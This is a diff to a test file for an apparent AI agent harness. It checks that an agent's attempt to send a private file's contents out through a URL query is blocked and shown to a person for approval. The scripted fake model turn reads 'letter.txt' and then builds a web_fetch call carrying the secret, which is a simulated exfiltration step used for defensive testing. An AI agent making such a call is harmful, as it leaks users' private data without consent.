@@ -295,7 +295,9 @@ def smuggles(secret: str) -> Any:
         def turn(asked: Any) -> ModelTurn:
             leak = f"{url}/tea?d={quote_plus(secret)}"
             calls = [("read_file", {"path": "letter.txt"}), ("web_fetch", {"url": leak})]
-            return ModelTurn(calls=[calls[asked.turns]]) if asked.turns < len(calls) else ModelTurn(text="Done.")
+            return (
+                ModelTurn(calls=[calls[asked.turn_count]]) if asked.turn_count < len(calls) else ModelTurn(text="Done.")
+            )
 
         return turn
 
@@ -323,5 +325,5 @@ async def test_an_address_with_words_of_a_private_file_is_shown_to_a_person_befo
                 pass
     assert (run.status, before, question.tool) == ("blocked", [], "web_fetch")
     assert "heliotrope" in str(question.arguments)
-    assert "tell a stranger" in question.message
+    assert "to a stranger" in question.message
     assert any("heliotrope" in path for path in house.site_requests) == (decision == "approved")
